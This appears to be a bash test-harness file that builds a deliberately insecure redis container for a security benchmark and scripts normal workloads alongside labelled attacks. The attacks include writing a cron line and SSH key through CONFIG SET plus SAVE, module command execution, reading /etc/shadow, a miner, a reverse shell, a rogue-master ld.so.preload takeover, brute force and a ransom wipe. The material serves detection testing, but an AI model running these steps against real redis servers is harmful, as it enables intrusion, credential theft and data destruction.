# shellcheck shell=bash
# SPDX-License-Identifier: Apache-2.0
#
# redis as the store of an application: sessions, queues, leader boards, streams, scripts; an
# append-only file and snapshots; TLS. It runs as root, and lets clients set what redis 7 protects:
# so do many images.

# shellcheck disable=SC2034,SC2154 # lib.bash and rare.bash read variables of this file, and set others
# shellcheck source=bench/dataset/databases.bash
. "${here:?}/databases.bash"

set=development containers=(redis) port=6379 data_directory=/var/lib/redis volume_mb=192
configuration_file=/etc/redis/redis.conf
health=(/usr/bin/redis-cli --no-auth-warning -a secret ping)
image_packages=(redis-server redis-tools cron logrotate bash coreutils findutils grep gzip dash base-files
	libc-bin tzdata hostname)
rare_own=(replica_attaches config_set config_rewritten saver_killed scripts_killed monitored debug_reload
	user_added function_loaded keys_listed memory_full client_paused log_rotated defragmented
	append_only_off)
rare_not=(worker_killed)

image_prepare() {
	local tree=$1
	mkdir -p "$tree"/var/{lib,log}/redis "$tree"/etc/redis/tls "$tree"/var/spool/cron/crontabs \
		"$tree/root/.ssh"
	chmod 700 "$tree/root/.ssh"
	openssl req -x509 -newkey rsa:2048 -nodes -days 3650 -subj /CN=service.example \
		-keyout "$tree/etc/redis/tls/key.pem" -out "$tree/etc/redis/tls/cert.pem" 2>/dev/null
	printf '%s\n' 'user default on >secret ~* &* +@all' \
		'user app on >secret ~* &* +@all -@admin -@dangerous +info +keys +sort' \
		>"$tree/etc/redis/users.acl"
	printf '%s {\n\tdaily\n\trotate 5\n\tcompress\n\tsize 1\n}\n' /var/log/redis/redis-server.log \
		>"$tree/etc/logrotate.d/redis-server"
	# The package's own file says the rest. Of a setting that is there twice, the last counts.
	cat >>"$tree/etc/redis/redis.conf" <<-'CONF'
	bind * -::*
	protected-mode no
	tls-port 6380
	tls-cert-file /etc/redis/tls/cert.pem
	tls-key-file /etc/redis/tls/key.pem
	tls-ca-cert-file /etc/redis/tls/cert.pem
	tls-auth-clients no
	aclfile /etc/redis/users.acl
	unixsocket /run/redis.sock
	save 20 50
	appendonly yes
	appendfsync everysec
	auto-aof-rewrite-min-size 2mb
	maxmemory 24mb
	maxmemory-policy allkeys-lru
	notify-keyspace-events Ex
	latency-monitor-threshold 50
	repl-diskless-sync-delay 1
	enable-protected-configs yes
	enable-module-command yes
	enable-debug-command yes
	CONF
}

container_fields() {
	arguments=(/usr/bin/redis-server /etc/redis/redis.conf --supervised no --daemonize no
		--pidfile /run/redis.pid)
	volumes=(/var/lib/redis /var/log/redis)
}

peers() {
	:
}

# cli ARGUMENT…: redis-cli as the administrator.
cli() {
	client redis-cli -h "$own_address" --no-auth-warning -a secret "$@"
}

# app: its commands from stdin, one a line, as the application.
app() {
	client_stdin redis-cli -h "$own_address" --no-auth-warning --user app -a secret "$@"
}

# redis_bench TEST,… REQUESTS [OPTION…]
redis_bench() {
	local tests=$1 n=$2
	shift 2
	client redis-benchmark -h "$own_address" -a secret -q -t "$tests" -n "$n" -c "$(between 1 20)" "$@"
}

# Its first client fills it.
ready() {
	cli ping | grep -q PONG || return
	[ -z "$is_warm" ] || return 0
	{ generated 1 session_work 400 && generated 2 board_work 100; } | app >/dev/null
	is_warm=1
}

is_warm=''

saved() {
	local answer
	answer=$(cli info persistence)
	[[ $answer == *rdb_bgsave_in_progress:0* && $answer == *aof_rewrite_in_progress:0* ]]
}

session_work() {
	local i n
	for ((i = 0; i < $1; i++)); do
		n=$((RANDOM % 300))
		printf 'hgetall session:%d\nhset session:%d user %d seen %d\n' "$n" "$n" $((n % 50)) "$RANDOM"
		printf 'expire session:%d 300\n' "$n"
		filler $((RANDOM % 3000 + 100))
		likely 70 || printf 'set page:%d %s ex %d\nget page:%d\n' $((n % 40)) "$filler_value" \
			$((RANDOM % 60 + 1)) $((n % 40))
		likely 90 || printf 'del session:%d\n' $((RANDOM % 300))
	done
}

queue_work() {
	local i
	for ((i = 0; i < $1; i++)); do
		filler 80
		printf 'lpush jobs %s\nxadd log maxlen 500 * user %d text %s\n' "$filler_value" "$RANDOM" \
			"$filler_value"
		likely 40 || printf 'rpop jobs\nbrpop jobs 1\nlrange jobs 0 20\nxrange log - + count 20\n'
	done
	printf 'xgroup create log workers 0\nxreadgroup group workers one count 10 streams log >\n'
	printf 'xlen log\nltrim jobs 0 500\n'
}

board_work() {
	local i
	for ((i = 0; i < $1; i++)); do
		printf 'zincrby board %d player%d\nsadd online player%d\n' $((RANDOM % 20)) $((RANDOM % 200)) \
			$((RANDOM % 200))
		printf 'incr visits\npfadd visitors %d\nsetbit days %d 1\n' "$RANDOM" "$RANDOM"
	done
	printf 'zrevrange board 0 9 withscores\nscard online\npfcount visitors\nbitcount days\n'
	printf 'srem online player1\n'
	printf 'geoadd places 13.4 52.5 a 2.3 48.8 b\ngeosearch places fromlonlat 10 50 byradius 900 km\n'
	printf 'sort online alpha limit 0 5\n'
}

script_work() {
	printf 'eval "for i = 1, %d do redis.call(\\"incrby\\", KEYS[1], i) end return 1" 1 sum\n' "$1"
	printf 'multi\nset a %d\nget a\nexec\nwatch a\nmulti\nincr a\nexec\n' "$1"
	printf 'object encoding a\ntype board\nttl a\n'
	printf 'scan 0 match session:* count 50\nwrong command\nget board\ninfo clients\npublish news hello\n'
}

# A subscriber, and what it hears.
news_work() {
	client timeout 2 redis-cli -h "$own_address" --no-auth-warning -a secret psubscribe '*' &
	cli -r "$1" -i 0.05 publish news "$RANDOM"
	wait $! || true
}

request() {
	local number=$RANDOM n=$((RANDOM % 56 + 5)) kinds=(set get incr lpush rpush lpop rpop sadd hset spop zadd
		lrange_100 mset)
	case $((RANDOM % 12)) in
	0 | 1 | 2) generated "$number" session_work "$n" | app ;;
	3) generated "$number" queue_work "$n" | app ;;
	4) generated "$number" board_work "$n" | app ;;
	5) generated "$number" script_work "$n" | app ;;
	6) news_work $((n / 4)) ;;
	7 | 8) redis_bench "${kinds[number % 13]},${kinds[RANDOM % 13]}" $((n * 10)) -P $((1 + RANDOM % 4 * 5)) \
		-d $((RANDOM % 2000 + 1)) -r $((RANDOM % 5000 + 10)) ;;
	9) generated "$number" session_work "$n" | app --tls --insecure -p 6380 ;;
	10) client redis-cli -h "$own_address" --no-auth-warning -a wrong get a ;;
	11) cli info; cli slowlog get; cli client list; cli latency latest; cli memory usage board; cli dbsize ;;
	esac >/dev/null
}

# redis reads its configuration only when it starts: what has changed is set.
reload_service() {
	cli acl load
	cli config set hz "$(between 10 20)"
}

administer() {
	local log
	log=$(volume_path redis /var/log/redis)/redis-server.log
	cli bgsave
	until_true "$patience" saved
	cli bgrewriteaof
	until_true "$patience" saved
	mv "$log" "$log.1"
	cli save
	cli --rdb - | wc -c
	cli -n 1 set once v
	cli -n 1 flushdb async
	cli memory purge
	reload_service
}

rare_replica_attaches() {
	{ client timeout 8 redis-cli -h "$own_address" --no-auth-warning -a secret --replica || true; } | tail -c 500
}

rare_config_set() {
	cli config set maxmemory 32mb slowlog-log-slower-than 1000 appendfsync always
	sleep 5
	cli config set maxmemory 24mb slowlog-log-slower-than 10000 appendfsync everysec save '30 10'
}

rare_config_rewritten() {
	lasts
	cli config rewrite
}

# The process that writes a snapshot dies: writes are refused until the next one has been written.
rare_saver_killed() {
	local pid
	cli config set rdb-key-save-delay 2000
	cli bgsave
	sleep 1
	for pid in $(tasks_named redis redis-rdb-bgsave); do
		kill -KILL "$pid"
	done
	sleep 3
	cli config set rdb-key-save-delay 0
	cli bgsave
	until_true "$patience" saved
}

# A script that does not end.
rare_scripts_killed() {
	cli config set busy-reply-threshold 500
	cli eval 'while true do end' 0 &
	sleep 2
	cli script kill
	wait $! || true
	cli script flush
	cli config set busy-reply-threshold 5000
}

rare_monitored() {
	client timeout 5 redis-cli -h "$own_address" --no-auth-warning -a secret monitor | tail -n 3
	cli memory doctor
	cli latency doctor
}

rare_debug_reload() {
	cli debug reload
	cli debug loadaof
}

rare_user_added() {
	cli acl setuser guest on '>guest' '~page:*' +get
	cli acl save
	client redis-cli -h "$own_address" --no-auth-warning --user guest -a guest get session:1
	cli acl log
	cli acl deluser guest
	cli acl save
}

rare_function_loaded() {
	# shellcheck disable=SC2016 # not the shell's
	cli function load '#!lua name=mine
redis.register_function("twice", function(keys, args) return args[1] * 2 end)'
	cli fcall twice 0 21
	cli function dump
	cli function flush
}

rare_keys_listed() {
	cli keys '*' | tail -n 3
	cli --bigkeys | tail -n 3
	cli --memkeys | tail -n 3
	cli debug sleep 0.5
}

rare_memory_full() {
	redis_bench set 4000 -d 20000 -r 4000
	sleep 3
}

rare_client_paused() {
	cli client pause 3000 all
	sleep 4
	cli client kill type normal
	cli client no-evict on
}

rare_log_rotated() {
	session redis /usr/sbin/logrotate -f -s /tmp/logrotate.state /etc/logrotate.d/redis-server
}

rare_defragmented() {
	cli config set activedefrag yes
	sleep 3
	cli config set activedefrag no
	cli swapdb 0 1
	cli swapdb 0 1
}

rare_append_only_off() {
	cli config set appendonly no
	sleep 3
	cli config set appendonly yes
	until_true "$patience" saved
}

# ---- attacks: redis is reachable, and its password is known ----

# planted DIR NAME: a snapshot as a file of that name, in which a value is a line of its own.
planted() {
	cli config set dir "$1"
	cli config set dbfilename "$2"
	cli save
}

# As it was, or the next snapshot would show it.
unplant() {
	cli del 0line
	cli config set dir /var/lib/redis
	cli config set dbfilename dump.rdb
}

# A line that cron runs.
attack_cron() {
	harm open '/var/spool/cron/crontabs/*'
	harm rename-to /var/spool/cron/crontabs/root
	cli config set rdbcompression no
	cli set 0line $'\n\n* * * * * sh -c "id >/tmp/out"\n\n'
	planted /var/spool/cron/crontabs root
	unplant
	session redis /bin/grep -a '^\* \* .*id >/tmp/out' /var/spool/cron/crontabs/root
}

# A key that sshd takes.
attack_ssh_key() {
	harm open '/root/.ssh/*'
	harm rename-to /root/.ssh/authorized_keys
	cli config set rdbcompression no
	cli set 0line $'\n\nssh-rsa AAAAB3NzaC1yc2EAAAADAQAB thief\n\n'
	planted /root/.ssh authorized_keys
	unplant
	session redis /bin/grep -a '^ssh-rsa .*thief' /root/.ssh/authorized_keys
}

# module_load: the attacker's, which a neighbour of the volume has put there.
module_load() {
	install -m 755 "$(payload_library)" "$(volume_path redis /var/lib/redis)/stats.so"
	harm mapx /var/lib/redis/stats.so
	cli module load /var/lib/redis/stats.so
}

attack_module() {
	module_load
	harm exec '*/dash'
	cli system.exec 'id; uname -a' | tee "$stage/answer" | grep uid=0
}

attack_credentials() {
	module_load
	harm open /etc/shadow
	harm open /etc/redis/tls/key.pem
	cli system.exec 'cat /etc/shadow /etc/redis/tls/key.pem; cat /proc/1/environ' | tee "$stage/answer" |
		grep 'PRIVATE KEY'
}

attack_miner() {
	module_load
	mining_begin /tmp/.redis
	cli system.exec "$mining_command"
	pool_got
}

attack_reverse_shell() {
	module_load
	thief_shell 'id; ls -la /var/lib/redis; cat /etc/shadow; exit'
	harm connect "$peer_address:4444"
	harm exec '*/dash'
	cli system.rev "$peer_address" 4444
	thief_got uid=0
}

# follow_rogue FILE DIR NAME: the attacker's server becomes the master, and gives a file in place of a data set.
follow_rogue() {
	nsenter -t "$peers_network_pid" -n python3 "$here/payloads/rogue_master.py" "$peer_address" 6666 "$1" &
	children[$!]=1
	until_true "$patience" port_listens 6666
	cli config set dir "$2"
	cli config set dbfilename "$3"
	cli replicaof "$peer_address" 6666
	until_true 20 cmp -s "$1" "$(image_path redis "$2/$3")"
	unplant
	cli replicaof no one
	end $!
}

# redis 7 loads no module that is not executable: so the library is one that every new program loads.
attack_rogue_master() {
	harm connect "$peer_address:6666"
	harm rename-to /var/lib/redis/stats.so
	harm rename-to /etc/ld.so.preload
	harm mapx /var/lib/redis/stats.so
	harm open /etc/shadow
	thief_begin
	preload_library "$stage/stats.so" /etc/shadow
	echo /var/lib/redis/stats.so >"$stage/preload"
	follow_rogue "$stage/stats.so" /var/lib/redis stats.so
	follow_rogue "$stage/preload" /etc ld.so.preload
	session redis "${health[@]}"
	thief_got ^root:
}

attack_brute_force() {
	local i
	harm call accept4
	for i in {1..300}; do
		printf 'auth default password%d\n' "$i"
	done | client_stdin redis-cli -h "$own_address" | grep -c WRONGPASS
	printf 'auth default secret\nget visits\n' | client_stdin redis-cli -h "$own_address" | grep -x OK
}

attack_code_shell() {
	harm exec '*/dash'
	inject redis redis-server 'print (int) system("id >/tmp/out; cat /etc/shadow >>/tmp/out")'
	session redis /bin/grep uid=0 /tmp/out
}

attack_code_secret() {
	harm open /etc/shadow
	harm connect "$peer_address:4444"
	thief_begin
	code_steal redis redis-server /etc/shadow
	thief_got ^root:
}

# ---- adaptive: by commands that clients use ----

# Every key and its value, by the service's own protocol.
adaptive_dump() {
	harm call write
	cli --scan >"$stage/keys"
	sed 's/.*/dump "&"/' "$stage/keys" | app | wc -c >"$stage/answer"
	[ "$(cat "$stage/answer")" -gt 2000 ]
}

# The same by one script.
adaptive_script() {
	harm call write
	[ "$(cli eval 'local all = {} for i, k in ipairs(redis.call("keys", "*")) do all[i] = redis.call("dump", k) end
		return all' 0 | wc -c)" -gt 2000 ]
}

# Sessions become the attacker's, and are saved.
adaptive_tamper() {
	harm open '/var/lib/redis/temp-*.rdb'
	cli --scan --pattern 'session:*' | sed 's/.*/hset & user admin seen 1/' | app | wc -l
	cli hget session:1 user
	cli save
	cli eval 'local n = 0 for _, k in ipairs(redis.call("keys", "session:*")) do
		if redis.call("hget", k, "user") == "admin" then n = n + 1 end end return n' 0 | grep -vx 0
}

# Everything is gone, and a note says what to pay.
adaptive_ransom() {
	harm open '/var/lib/redis/temp-*.rdb'
	cli flushall
	cli set README 'Pay, and get your data back'
	cli save
	[ "$(cli dbsize)" = 1 ]
}

# A replica gets all that there is, as a backup does.
adaptive_replica() {
	harm call write
	[ "$(cli --rdb - | wc -c)" -gt 2000 ]
}
